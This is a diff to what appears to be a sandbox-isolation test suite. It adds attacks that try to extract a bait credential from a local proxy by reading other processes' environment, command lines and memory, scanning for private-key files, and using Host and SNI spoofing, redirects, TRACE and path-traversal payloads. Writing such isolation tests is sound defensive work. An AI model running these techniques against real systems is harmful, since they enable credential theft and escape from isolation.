@@ -7,20 +7,25 @@ raises OSError, or returns nothing, when it did not. What succeeds does no lasti
 are written back, bombs are small, calls that would stop the machine are made so that the kernel
 refuses them after the wall (the rows of escape.py say so).
 """
+import base64
 import ctypes
 import errno
 import fcntl
 import glob
+import gzip
 import json
 import mmap
 import os
+import re
 import resource
 import signal
 import socket
+import ssl
 import struct
 import sys
 import tempfile
 import time
+import urllib.parse
 
 libc = ctypes.CDLL(None, use_errno=True)
 BAIT = {}
@@ -1249,6 +1254,177 @@ def _():
 @attack(E, "the name of a command that is not there")
 def _():
     os.execvp("/bin/sh", ["sh", "-c", "\x1b[5mowned"])
+
+
+# ---- keys that are used outside, by a proxy ----
+K = "credentials"
+PROXY = ("127.0.0.1", 61080)
+LITTLE = 1 << 20
+
+
+def leaks(data):
+    """Whether the key is in it, however it is written."""
+    text = data.decode("latin-1")
+    key = BAIT["forge"]["key"][::-1]
+    forms = [text, urllib.parse.unquote(text), text.replace("\\/", "/")]
+    forms += [bytes.fromhex(one[:len(one) & ~1]).decode("latin-1") for one in re.findall("[0-9a-fA-F]{16,}", text)]
+    forms += [base64.b64decode(one[i:len(one) - (len(one) - i) % 4]).decode("latin-1") for one in re.findall("[0-9A-Za-z+/]{16,}", text)
+              for i in range(4)]
+    return key[4:-2] if any(key[4:-2] in form for form in forms) else None
+
+
+def ask(text, link=None):
+    """All that comes for it."""
+    with link or socket.create_connection(PROXY, 5) as one:
+        one.sendall(text.encode())
+        data = b""
+        while piece := one.recv(65536):
+            data += piece
+    return data
+
+
+def by_route(path, *headers, method="GET", route=None, host="127.0.0.1:61080"):
+    """Of the task's own base URL."""
+    token = urllib.parse.urlsplit(route or os.environ.get("FORGE_URL", "http://127.0.0.1:61080/sparks-none")).path
+    lines = [f"{method} {token}{path} HTTP/1.1", "Host: " + host, *headers, "Connection: close", "", ""]
+    return ask("\r\n".join(lines))
+
+
+def in_tunnel(host, asked, name="localhost", path="/echo", key="of the attacker"):
+    link = socket.create_connection(PROXY, 5)
+    link.sendall(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+    if b" 200 " not in link.recv(1000):
+        return b""
+    secure = ssl._create_unverified_context().wrap_socket(link, server_hostname=name)
+    return ask(f"GET {path} HTTP/1.1\r\nHost: {asked}\r\nAuthorization: {key}\r\nConnection: close\r\n\r\n", secure)
+
+
+def others():
+    return [path for path in glob.glob("/proc/[0-9]*") if int(path[6:]) != os.getpid()]
+
+
+@attack(K, "the environment of every process")
+def _():
+    return any(try_it(lambda p=p: leaks(text_of(p + "/environ", LITTLE))) for p in others() + ["/proc/self"])
+
+
+@attack(K, "the command line of every process")
+def _():
+    return any(try_it(lambda p=p: leaks(text_of(p + "/cmdline", LITTLE))) for p in others())
+
+
+def memory_leaks(path):
+    with open(path + "/maps", encoding="utf-8", errors="replace") as maps, open(path + "/mem", "rb", buffering=0) as memory:
+        for line in maps:
+            if "[stack]" not in line and "[heap]" not in line:
+                continue
+            first, last = (int(one, 16) for one in line.split()[0].split("-"))
+            memory.seek(first)
+            if leaks(memory.read(min(last - first, 16 * LITTLE))):
+                return True
+    return None
+
+
+@attack(K, "the memory of every other process")
+def _():
+    return any(try_it(lambda p=p: memory_leaks(p)) for p in others())
+
+
+@attack(K, "files: of the proxy, of its authority, temporary ones")
+def _():
+    wanted = b"PRIVATE " + b"KEY"
+    for top in ("/run", "/tmp", "/dev/shm", os.environ.get("HOME", "/root"), "."):
+        for folder, _, names in os.walk(top):
+            for name in names:
+                path = os.path.join(folder, name)
+                small = try_it(lambda p=path: os.path.isfile(p) and os.path.getsize(p) < LITTLE)
+                data = try_it(lambda p=path: text_of(p, LITTLE)) if small else None
+                if data and (leaks(data) or wanted in data):
+                    return path
+    return None
+
+
+for NAME, PATH in (("in the answer", "/echo"), ("in a header", "/header"), ("in other spellings", "/coded"), ("in chunks of a byte", "/pieces"),
+                   ("behind the last chunk", "/trailer")):
+    attack(K, "an echo " + NAME)(lambda path=PATH: leaks(by_route(path).replace(b"\r\n1\r\n", b"")))
+
+
+@attack(K, "an echo that is packed")
+def _():
+    data = by_route("/packed", "Accept-Encoding: gzip").partition(b"\r\n\r\n")[2]
+    return leaks(gzip.decompress(data)) if data[:2] == b"\x1f\x8b" else None
+
+
+@attack(K, "an echo a few bytes at a time")
+def _():
+    parts = [by_route("/range", f"Range: bytes={i}-{i + 2}").partition(b"\r\n\r\n")[2] for i in range(0, 48, 3)]
+    return leaks(b"".join(parts)) if max(map(len, parts)) <= 3 else None
+
+
+@attack(K, "an echo of TRACE")
+def _():
+    return leaks(by_route("/x", method="TRACE"))
+
+
+@attack(K, "a cookie that is as good")
+def _():
+    return BAIT["forge"]["cookie"][::-1].encode() in by_route("/cookie")
+
+
+@attack(K, "a redirect to somebody else's host")
+def _():
+    to = "http://%s/echo" % BAIT["forge"]["second"]
+    where = re.search(rb"(?im)^location: *(\S+)", by_route("/redirect?" + to))
+    return leaks(ask(f"GET {where[1].decode()} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")) if where else None
+
+
+@attack(K, "somebody else's host, by Host of a route")
+def _():
+    return leaks(by_route("/echo", host=BAIT["forge"]["second"]))
+
+
+@attack(K, "somebody else's host, by the proxy")
+def _():
+    to = BAIT["forge"]["second"]
+    return leaks(ask(f"GET http://{to}/echo HTTP/1.1\r\nHost: {to}\r\nConnection: close\r\n\r\n"))
+
+
+@attack(K, "somebody else's host, by Host in the tunnel of one that has a key")
+def _():
+    return leaks(in_tunnel(BAIT["forge"]["host"], BAIT["forge"]["second"]))
+
+
+@attack(K, "the key of a host under another name (SNI)")
+def _():
+    return b"GET /front" in in_tunnel(BAIT["forge"]["host"], BAIT["forge"]["host"], "other.test", "/front")
+
+
+@attack(K, "the forge with a key of the attacker's, beside its base URL")
+def _():
+    return b"of the attacker" in in_tunnel(BAIT["forge"]["base"], BAIT["forge"]["base"])
+
+
+@attack(K, "a part of the forge that is above the base URL")
+def _():
+    return any(b"GET /admin" in (try_it(lambda p=p: by_route(p)) or b"") for p in ("/../admin", "/%2e%2e/admin", "/..%2fadmin"))
+
+
+@attack(K, "a route of a task that is over")
+def _():
+    return b"GET /v1/echo" in by_route("/echo", route=BAIT["forge"]["old"])
+
+
+@attack(K, "the route of another task, by the own proxy")
+def _():
+    return b"GET /v1/echo" in by_route("/echo", route=BAIT["forge"]["other"])
+
+
+@attack(K, "the route of another task, by its socket")
+def _():
+    link = socket.socket(socket.AF_UNIX)
+    link.connect(BAIT["forge"]["socket"])
+    path = urllib.parse.urlsplit(BAIT["forge"]["other"]).path
+    return b"GET /v1/echo" in ask(f"GET {path}/echo HTTP/1.1\r\nHost: 127.0.0.1:61080\r\nConnection: close\r\n\r\n", link)
 
 
 # ---- running them ----
